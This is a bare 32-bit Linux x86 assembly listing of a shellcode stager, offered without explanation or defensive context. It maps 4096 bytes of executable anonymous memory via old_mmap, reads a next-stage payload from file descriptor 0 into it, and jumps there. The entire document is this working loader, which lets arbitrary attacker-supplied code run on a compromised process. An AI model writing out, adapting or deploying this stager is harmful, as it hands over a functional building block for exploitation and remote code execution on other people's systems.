; Linux, 32 bit: maps executable memory, reads a next stage from the descriptor 0 into it, and jumps there.
bits 32
        xor ebx, ebx
        push ebx
        push byte -1
        push byte 34            ; MAP_PRIVATE | MAP_ANONYMOUS
        push byte 7
        push dword 4096
        push ebx
        mov ebx, esp
        push byte 90
        pop eax
        int 80h                 ; old_mmap
        xchg eax, ecx
        xor ebx, ebx
        cdq
        mov dx, 4096
        push byte 3
        pop eax
        int 80h
        jmp ecx
